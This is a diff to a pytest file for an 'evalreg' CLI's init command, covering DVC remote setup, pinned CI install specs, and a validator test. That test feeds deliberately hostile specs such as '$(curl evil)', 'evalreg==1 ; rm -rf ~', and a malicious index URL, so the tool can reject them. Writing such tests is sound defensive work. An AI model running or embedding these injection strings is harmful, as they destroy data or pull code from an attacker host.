@@ -50,9 +50,90 @@ def test_init_scaffolds_a_registry_that_passes_check(tmp_path: Path, cli):
 def test_init_with_a_remote_url_configures_it(tmp_path: Path, cli):
     target = tmp_path / "r"
     result = cli(None, "init", str(target), "--remote", "s3://team-bucket/evalreg")
-    assert result.code == 0, result.err
+    # The bucket cannot be reached from here: the scaffold stays, and init says what to do.
+    assert result.code == 1, result.err
+    assert "the example eval set was not pushed to s3://team-bucket/evalreg" in result.err
+    assert "dvc push" in result.out
     assert "url = s3://team-bucket/evalreg" in (target / ".dvc/config").read_text()
     assert not (target / "dvc-storage").exists()
+
+
+def test_init_with_a_remote_pushes_the_example_so_a_fresh_clone_can_pull_it(tmp_path: Path, cli):
+    remote, target, clone = tmp_path / "team-remote", tmp_path / "r", tmp_path / "clone"
+    result = cli(None, "init", str(target), "--remote", str(remote))
+    assert result.code == 0, result.err
+    assert any(p.is_file() for p in remote.rglob("*")), "nothing pushed to the team's remote"
+    git = ["git", "-c", "user.name=T", "-c", "user.email=t@example.com"]
+    subprocess.run([*git, "add", "-A"], cwd=target, check=True, capture_output=True)
+    subprocess.run([*git, "commit", "-qm", "start"], cwd=target, check=True, capture_output=True)
+    subprocess.run(["git", "clone", "-q", str(target), str(clone)], check=True)
+    # What CI on main does first: a clone has the pointer, not the data, until it pulls.
+    assert not (clone / "evalsets/faq-routing.jsonl").exists()
+    pulled = subprocess.run(
+        [str(Path(sys.executable).parent / "dvc"), "pull"],
+        cwd=clone,
+        capture_output=True,
+        text=True,
+    )
+    assert pulled.returncode == 0, pulled.stdout + pulled.stderr
+    assert (clone / "evalsets/faq-routing.jsonl").read_bytes() == (
+        target / "evalsets/faq-routing.jsonl"
+    ).read_bytes()
+    assert cli(clone, "check").code == 0
+
+
+def test_init_pins_the_evalreg_ci_installs_to_this_version_by_default(tmp_path: Path, cli):
+    from evalreg import __version__
+
+    target = tmp_path / "r"
+    assert cli(None, "init", str(target)).code == 0
+    spec = f"evalreg=={__version__}"
+    assert f'install: "{spec}"' in (target / "registry/evalreg.yaml").read_text()
+    for workflow in sorted((target / ".github/workflows").glob("*.yml")):
+        text = workflow.read_text()
+        assert f'EVALREG_SPEC: "{spec}"' in text, workflow.name
+        assert "@EVALREG_SPEC@" not in text and "pip install evalreg\n" not in text
+    assert f"python -m pip install '{spec}'" in (target / "README.md").read_text()
+
+
+def test_init_writes_the_evalreg_spec_it_is_given(tmp_path: Path, cli):
+    target = tmp_path / "r"
+    spec = "git+https://github.com/acme/evalreg@0123456789abcdef0123456789abcdef01234567"
+    assert cli(None, "init", str(target), "--evalreg-spec", spec).code == 0
+    for workflow in sorted((target / ".github/workflows").glob("*.yml")):
+        assert f'EVALREG_SPEC: "{spec}"' in workflow.read_text(), workflow.name
+    assert cli(target, "report").code == 0
+    assert f"python -m pip install '{spec}'\n" in (target / "reports/faq-routing.md").read_text()
+
+
+@pytest.mark.parametrize(
+    ("spec", "why"),
+    [
+        ("evalreg", "is not pinned"),
+        ("evalreg>=0.1", "not a pip requirement"),
+        ('evalreg==1"\nrun: curl evil', "not a pip requirement"),
+        ("evalreg==1 ; rm -rf ~", "not a pip requirement"),
+        ("$(curl evil)", "not a pip requirement"),
+        ("--index-url=https://evil.example/simple", "not a pip requirement"),
+        ("git+https://github.com/acme/evalreg", "names no commit"),
+    ],
+)
+def test_init_refuses_an_evalreg_spec_that_is_unpinned_or_unsafe(
+    spec: str, why: str, tmp_path: Path, cli
+):
+    target = tmp_path / "r"
+    result = cli(None, "init", str(target), f"--evalreg-spec={spec}")
+    assert result.code == 2
+    assert why in result.err
+    assert not target.exists()
+
+
+def test_registry_settings_are_loaded_strictly(repo: Repo, cli):
+    repo.write("registry/evalreg.yaml", "schema_version: 1\ninstall: evalreg\nsnippets: off\n")
+    result = cli(repo, "check")
+    assert result.code == 2
+    assert "registry/evalreg.yaml:2:10: install: 'evalreg' is not pinned" in result.err
+    assert "registry/evalreg.yaml:3:1: unknown key 'snippets'" in result.err
 
 
 def test_init_refuses_a_non_empty_directory(tmp_path: Path, cli):
